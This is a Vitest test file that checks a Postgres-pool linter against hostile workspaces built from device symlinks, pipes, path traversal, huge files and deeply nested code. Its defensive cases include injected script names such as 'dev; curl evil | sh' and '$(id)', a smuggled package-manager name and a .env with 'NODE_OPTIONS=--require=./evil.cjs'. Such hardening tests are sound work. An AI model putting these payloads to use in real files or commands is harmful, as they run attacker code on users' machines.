import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { npmScripts } from '../../src/editor/running/npm-scripts.ts';
import { packageManagerOf } from '../../src/editor/eslint-setup/package-manager.ts';
import { createLintThread } from '../../src/lint/lint-thread.ts';
import type { ThreadQuestion } from '../../src/lint/thread-messages.ts';
import { createPoolFileFinder } from '../../src/server/find-pool-files.ts';
import { runNode, type Finished } from '../support/run-process.ts';
import { createTemporaryFolder, type TemporaryFolder } from '../support/temporary-folder.ts';

const leak = `import { Pool } from 'pg';
const pool = new Pool();
pool.on('error', () => undefined);
export async function leak() { const client = await pool.connect(); await client.query('SELECT 1'); }
`;
/** Names what a workspace may put in the way of whoever reads it. */
const surrounded = `${['zero', 'pipe', 'circle', 'large', 'loop/loop/loop/leak', '../../../../../../etc/passwd', '/dev/zero'].map((name, at) => `import { x${at} } from '${name.startsWith('/') ? '' : './'}${name}';`).join('\n')}\n${leak}`;

/** What fills the stack of a parser, of a walk over its tree, or of a graph. */
const deep: Readonly<Record<string, string>> = {
  'parentheses.ts': `import 'pg';\n${'('.repeat(50_000)}1${')'.repeat(50_000)}`,
  'branches.ts': `async function f(a) { ${'if (a) { '.repeat(3_000)} await pool.connect(); ${'}'.repeat(3_000)} }`,
  'brackets.ts': '['.repeat(100_000),
  'chain.ts': `pool.connect()${'.then((x) => x)'.repeat(5_000)};`,
  'templates.ts': `${'`${'.repeat(3_000)}1${'}`'.repeat(3_000)}`,
  'binary.ts': `const a = ${'1 + '.repeat(20_000)}1;`,
};

let folder: TemporaryFolder;
let outside: TemporaryFolder;
let run: Finished;

beforeAll(async () => {
  outside = await createTemporaryFolder({ 'outside.ts': leak });
  folder = await createTemporaryFolder({
    'leak.ts': surrounded,
    ...Object.fromEntries(
      Object.entries(deep).map(([name, code]) => [
        name,
        `import { Pool } from 'pg';\nconst pool = new Pool();\n${code}\n`,
      ]),
    ),
  });
  const at = (name: string) => join(folder.path, name);
  for (const name of ['zero.ts', 'package.json', '.gitignore'])
    await symlink('/dev/zero', at(name));
  for (const name of ['pipe.ts', 'tsconfig.json', '.env.example'])
    execFileSync('mkfifo', [at(name)]);
  await symlink('circle.ts', at('circle.ts'));
  await symlink('.', at('loop'));
  await symlink(outside.path, at('elsewhere'));
  await symlink(join(outside.path, 'outside.ts'), at('outside.ts'));
  execFileSync('truncate', ['-s', '900M', at('large.ts')]);
  await mkdir(at('ignoring'));
  await writeFile(at('ignoring/leak.ts'), leak);
  execFileSync('truncate', ['-s', '900M', at('ignoring/.gitignore')]);
  const far = at(Array.from({ length: 300 }, () => 'd').join('/'));
  await mkdir(far, { recursive: true });
  await writeFile(join(far, 'far.ts'), leak);
  run = await runNode(
    ['--max-old-space-size=700', 'dist/cli.js', 'lint', folder.path],
    process.cwd(),
  );
});

afterAll(async () => {
  await folder[Symbol.asyncDispose]();
  await outside[Symbol.asyncDispose]();
});

test('a workspace of links, pipes, devices, huge and deep files is checked to its end, and its leaks are found', () => {
  expect(run.code).toBe(1);
  expect(run.stderr).toBe('');
  expect(run.stdout).toContain('poolguard/no-unreleased-client');
  expect(run.stdout).toMatch(/d\/far\.ts/);
  expect(run.stdout).toContain('ignoring/leak.ts');
  expect(run.stdout).toMatch(
    /large\.ts\n {2}1:1 {2}error {4}The file was not checked: it is larger than 16 MB/,
  );
});

test('what a link leads to is not checked twice, nor when it lies outside', () => {
  expect(run.stdout).not.toMatch(/outside|elsewhere|loop\/|zero\.ts|pipe\.ts|circle\.ts/);
});

test('code that is nested too deeply is told of by its place, and not by a stack', () => {
  expect(run.stdout).toMatch(/parentheses\.ts\n {2}1:1 {2}error {4}.*nested too deeply/);
  expect(run.stdout).not.toMatch(/undefined|RangeError|\bat .+:\d+:\d+/);
});

test('the thread that reads for an editor answers for each of them', async () => {
  const thread = createLintThread(join(process.cwd(), 'dist/server.cjs'), { open: new Map() });
  try {
    const settings: ThreadQuestion['settings'] = {
      severities: { 'poolguard/no-unreleased-client': 'error' },
    };
    const lint = async (name: string) =>
      (await thread.lint({ path: join(folder.path, name), settings })).problems.map(
        ({ rule, message }) => rule ?? message,
      );
    for (const name of ['zero.ts', 'pipe.ts', 'circle.ts', 'large.ts', 'nothing.ts'])
      expect(await lint(name)).toEqual([]);
    expect(await lint('parentheses.ts')).toEqual([expect.stringContaining('nested too deeply')]);
    expect(await lint('leak.ts')).toEqual(['poolguard/no-unreleased-client']);
  } finally {
    await thread.end();
  }
});

test('who looks for pools in it finds those of ordinary files', async () => {
  const { files } = await createPoolFileFinder()([folder.path]);
  const names = files.map(({ path }) => path.slice(folder.path.length + 1));
  expect(names).toEqual(expect.arrayContaining(['leak.ts', 'brackets.ts']));
  expect(names.filter((name) => /zero|pipe|large|circle|outside/.test(name))).toEqual([]);
});

test.each([
  [
    'a shell',
    '{ "scripts": { "dev; curl evil | sh": "x", "$(id)": "x", "`id`": "x", "a\\nb": "x", "--prefix=/evil": "x", "-x": "x", "dev": "vite" } }',
    ['dev'],
  ],
  ['no object', '[]', []],
  [
    'scripts that are none',
    '{ "scripts": { "dev": { "a": 1 }, "start": null, "__proto__": "x" } }',
    [],
  ],
  ['nesting without end', `${'{"scripts":'.repeat(100_000)}`, []],
])('a package.json of %s gives no command but names of scripts', (_what, text, names) => {
  expect(npmScripts(text).map(({ name }) => name)).toEqual(names);
});

test.each(['evil@1', 'npm; id@1', { toString: () => 'npm@1' }, null, '__proto__@1'])(
  'a package manager is one of four, whatever a package.json calls it: %j',
  (named) => {
    expect(packageManagerOf(named, new Set())).toBe('npm');
  },
);

test('a file that names a connection is read, and nothing in it counts for Node, which knows an option of its own for such files', async () => {
  await using folder = await createTemporaryFolder({
    '.env': 'DATABASE_URL=postgres://app@127.0.0.1:1/shop\nNODE_OPTIONS=--require=./evil.cjs\n',
    'evil.cjs': "require('node:fs').writeFileSync('ran', '');",
  });
  const { stderr, code } = await runNode(
    [join(process.cwd(), 'dist/cli.js'), 'activity', '--database-from', '.env'],
    folder.path,
  );
  expect([code, stderr]).toEqual([2, expect.stringContaining('nothing listens on 127.0.0.1:1')]);
  expect(existsSync(join(folder.path, 'ran'))).toBe(false);
});
